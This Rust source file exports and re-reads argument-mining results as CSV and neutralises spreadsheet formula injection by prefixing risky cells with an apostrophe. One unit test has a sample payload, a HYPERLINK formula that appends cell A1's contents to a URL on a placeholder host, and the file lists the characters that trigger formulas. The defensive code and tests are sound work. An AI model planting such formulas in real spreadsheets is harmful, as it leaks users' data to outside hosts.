//! CSV argument maps: `sentences.csv`, `links.csv` and `documents.csv` (RFC 4180, UTF-8, with a
//! header row).
//!
//! Text cells (`doc_id`, `path`, `text`, `error`) are neutralised against formula injection by
//! default, as OWASP recommends for CSV opened in spreadsheets: a cell that begins with `=`, `+`,
//! `-`, `@`, a tab or a carriage return (after any `'`) gets a leading `'`, which spreadsheets
//! show as text and [`read_csv_maps`] removes again. [`CsvOptions::raw`] writes cells as they are.

use crate::document::{ArgumentMap, Role};
use crate::Result;
use std::io::Write;

/// Columns of `sentences.csv`.
pub const SENTENCES_HEADER: [&str; 13] = [
    "doc_id",
    "sent_id",
    "paragraph",
    "start",
    "end",
    "role",
    "confidence",
    "p_claim",
    "p_evidence",
    "p_stance",
    "p_none",
    "n_tokens",
    "text",
];
/// Columns of `links.csv`.
pub const LINKS_HEADER: [&str; 5] = ["doc_id", "source", "target", "relation", "score"];
/// Columns of `documents.csv`.
pub const DOCUMENTS_HEADER: [&str; 9] = [
    "doc_id",
    "path",
    "sentences",
    "claims",
    "evidence",
    "stance",
    "links",
    "status",
    "error",
];

/// How CSV cells are written.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct CsvOptions {
    /// Write text cells exactly as they are (for programs); the default neutralises cells a
    /// spreadsheet would run as a formula.
    pub raw: bool,
}

/// Characters that make a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether a cell needs a leading `'`: it starts with a formula character, possibly after `'`s
/// (so that the `'` added here can be told from one of the text's own and removed exactly).
/// A lone character is no formula (`-` is standard input's path), so it is left as it is.
fn needs_quote(cell: &str) -> bool {
    let t = cell.trim_start_matches('\'');
    t.starts_with(|c| FORMULA_START.contains(&c)) && t.chars().nth(1).is_some()
}

/// A text cell as written: with a leading `'` when a spreadsheet would run it as a formula.
pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
    if needs_quote(cell) {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

/// The inverse of [`neutralise`]: the cell as the text had it.
pub fn unneutralise(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_quote(rest) => rest,
        _ => cell,
    }
}

/// Writes argument maps as three CSV streams. Probabilities and scores are written with four
/// decimals, so that output is byte-identical from run to run.
pub struct CsvExporter<W: Write> {
    sentences: ::csv::Writer<W>,
    links: ::csv::Writer<W>,
    documents: ::csv::Writer<W>,
    options: CsvOptions,
}

impl<W: Write> std::fmt::Debug for CsvExporter<W> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("CsvExporter").finish_non_exhaustive()
    }
}

use super::prob4 as p;

impl<W: Write> CsvExporter<W> {
    /// An exporter over three writers; the header rows are written at once.
    pub fn new(sentences: W, links: W, documents: W) -> Result<Self> {
        Self::with_options(sentences, links, documents, CsvOptions::default())
    }

    /// As [`CsvExporter::new`], writing cells as `options` say.
    pub fn with_options(sentences: W, links: W, documents: W, options: CsvOptions) -> Result<Self> {
        let mut e = Self::rows_only(sentences, links, documents, options);
        e.sentences.write_record(SENTENCES_HEADER)?;
        e.links.write_record(LINKS_HEADER)?;
        e.documents.write_record(DOCUMENTS_HEADER)?;
        Ok(e)
    }

    /// An exporter that writes rows only, no header rows (for rows assembled into files later).
    pub fn rows_only(sentences: W, links: W, documents: W, options: CsvOptions) -> Self {
        let mk = |w| ::csv::WriterBuilder::new().from_writer(w);
        Self {
            sentences: mk(sentences),
            links: mk(links),
            documents: mk(documents),
            options,
        }
    }

    /// A text cell as this exporter writes it.
    fn cell<'a>(&self, s: &'a str) -> std::borrow::Cow<'a, str> {
        if self.options.raw {
            s.into()
        } else {
            neutralise(s)
        }
    }

    /// Write the three header rows to three other writers (the files `rows_only` rows go into).
    pub fn write_headers(sentences: W, links: W, documents: W) -> Result<()> {
        Self::new(sentences, links, documents)?.finish().map(|_| ())
    }

    /// Write one document's argument map, and its row in `documents.csv` with status `ok`.
    pub fn write_map(&mut self, path: &str, map: &ArgumentMap) -> Result<()> {
        let id = self.cell(&map.doc_id).into_owned();
        let id = id.as_str();
        let path = self.cell(path).into_owned();
        let path = path.as_str();
        for s in &map.sentences {
            let text = self.cell(&s.text);
            self.sentences.write_record([
                id,
                &s.id.to_string(),
                &s.paragraph.to_string(),
                &s.span.char.start.to_string(),
                &s.span.char.end.to_string(),
                s.role.as_str(),
                &p(s.confidence()),
                &p(s.probs[0]),
                &p(s.probs[1]),
                &p(s.probs[2]),
                &p(s.probs[3]),
                &s.n_tokens.to_string(),
                &text,
            ])?;
        }
        for l in &map.links {
            self.links.write_record([
                id,
                &l.source.to_string(),
                &l.target.to_string(),
                l.relation.as_str(),
                &p(l.score),
            ])?;
        }
        self.documents.write_record([
            id,
            path,
            &map.sentences.len().to_string(),
            &map.count(Role::Claim).to_string(),
            &map.count(Role::Evidence).to_string(),
            &map.count(Role::Stance).to_string(),
            &map.links.len().to_string(),
            "ok",
            "",
        ])?;
        Ok(())
    }

    /// Write the `documents.csv` row of a document that failed, with status `error`.
    pub fn write_failure(&mut self, doc_id: &str, path: &str, error: &str) -> Result<()> {
        let [doc_id, path, error] = [doc_id, path, error].map(|c| self.cell(c).into_owned());
        self.documents
            .write_record([&doc_id, &path, "0", "0", "0", "0", "0", "error", &error])?;
        Ok(())
    }

    /// Write the `documents.csv` row of a folder entry that is not a document (a FIFO, a broken
    /// link, ...), with status `skipped` and the reason in `error`.
    pub fn write_skipped(&mut self, doc_id: &str, path: &str, reason: &str) -> Result<()> {
        let [doc_id, path, reason] = [doc_id, path, reason].map(|c| self.cell(c).into_owned());
        self.documents
            .write_record([&doc_id, &path, "0", "0", "0", "0", "0", "skipped", &reason])?;
        Ok(())
    }

    /// Flush and return the writers.
    pub fn finish(self) -> Result<(W, W, W)> {
        let inner = |w: ::csv::Writer<W>| {
            w.into_inner()
                .map_err(|e| crate::Error::Io(std::io::Error::other(e.to_string())))
        };
        Ok((
            inner(self.sentences)?,
            inner(self.links)?,
            inner(self.documents)?,
        ))
    }
}

/// Read back the CSV maps `argmine mine` wrote (`sentences.csv` and `links.csv`) as
/// predictions to score: one [`crate::eval::PredDocument`] per `doc_id`, in file order. Ids
/// neutralised against formula injection are read back as they were.
pub fn read_csv_maps<R1: std::io::Read, R2: std::io::Read>(
    sentences: R1,
    links: R2,
) -> crate::Result<Vec<crate::eval::PredDocument>> {
    let bad = |m: String| crate::Error::CsvInput {
        file: "sentences.csv/links.csv".into(),
        msg: m,
    };
    let mut docs: Vec<crate::eval::PredDocument> = Vec::new();
    let mut index: std::collections::HashMap<String, usize> = std::collections::HashMap::new();
    let mut rdr = csv::Reader::from_reader(sentences);
    let h = rdr.headers()?.clone();
    let col = |name: &str| {
        h.iter()
            .position(|c| c == name)
            .ok_or_else(|| bad(format!("no column {name}")))
    };
    let (cd, cs, ca, cb, cr) = (
        col("doc_id")?,
        col("sent_id")?,
        col("start")?,
        col("end")?,
        col("role")?,
    );
    for rec in rdr.records() {
        let rec = rec?;
        let num = |k: usize| {
            rec[k]
                .parse::<usize>()
                .map_err(|_| bad(format!("{:?} is not a number", &rec[k])))
        };
        let unit = crate::eval::PredUnit {
            id: rec[cs].to_string(),
            start: num(ca)?,
            end: num(cb)?,
            role: rec[cr].parse().map_err(bad)?,
        };
        let id = unneutralise(&rec[cd]);
        let k = *index.entry(id.to_string()).or_insert_with(|| {
            docs.push(crate::eval::PredDocument {
                id: id.to_string(),
                ..Default::default()
            });
            docs.len() - 1
        });
        docs[k].units.push(unit);
    }
    let mut rdr = csv::Reader::from_reader(links);
    for rec in rdr.records() {
        let rec = rec?;
        if rec.len() < 4 {
            return Err(bad("links.csv row with fewer than 4 columns".into()));
        }
        if let Some(&k) = index.get(unneutralise(&rec[0])) {
            docs[k].links.push(crate::eval::PredLink {
                source: rec[1].to_string(),
                target: rec[2].to_string(),
                relation: rec[3].parse().map_err(bad)?,
            });
        }
    }
    Ok(docs)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::document::{Link, Relation, Sentence};
    use crate::text::Span;

    #[test]
    fn formula_cells_are_neutralised_reversibly() {
        for (cell, written) in [
            (
                "=HYPERLINK(\"http://x/?\"&A1,\"y\")",
                "'=HYPERLINK(\"http://x/?\"&A1,\"y\")",
            ),
            ("+1", "'+1"),
            ("- a bullet", "'- a bullet"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("'=x", "''=x"),
            ("'quoted'", "'quoted'"),
            ("plain", "plain"),
            ("-", "-"),
            ("'-", "'-"),
            ("", ""),
        ] {
            assert_eq!(neutralise(cell), written, "{cell:?}");
            assert_eq!(unneutralise(written), cell, "{written:?}");
        }
    }

    #[test]
    fn writes_rfc4180_rows() {
        let map = ArgumentMap {
            doc_id: "a b".into(),
            title: None,
            sentences: vec![Sentence {
                id: 1,
                paragraph: 1,
                span: Span {
                    byte: 0..12,
                    char: 0..11,
                },
                heading: false,
                text: "Say \"hi\", é.".into(),
                n_tokens: 7,
                role: Role::Claim,
                probs: [0.5, 0.25, 0.125, 0.125],
            }],
            links: vec![Link {
                source: 1,
                target: 1,
                relation: Relation::Attack,
                score: 0.33333,
            }],
        };
        let mut e = CsvExporter::new(Vec::new(), Vec::new(), Vec::new()).unwrap();
        e.write_map("x/a b.txt", &map).unwrap();
        e.write_failure("bad", "bad.txt", "invalid UTF-8 at byte offset 3")
            .unwrap();
        let (s, l, d) = e.finish().unwrap();
        assert_eq!(
            String::from_utf8(s).unwrap(),
            "doc_id,sent_id,paragraph,start,end,role,confidence,p_claim,p_evidence,p_stance,p_none,n_tokens,text\n\
             a b,1,1,0,11,claim,0.5000,0.5000,0.2500,0.1250,0.1250,7,\"Say \"\"hi\"\", é.\"\n"
        );
        assert_eq!(
            String::from_utf8(l).unwrap(),
            "doc_id,source,target,relation,score\na b,1,1,attack,0.3333\n"
        );
        assert_eq!(
            String::from_utf8(d).unwrap(),
            "doc_id,path,sentences,claims,evidence,stance,links,status,error\n\
             a b,x/a b.txt,1,1,0,0,1,ok,\n\
             bad,bad.txt,0,0,0,0,0,error,invalid UTF-8 at byte offset 3\n"
        );
    }
}
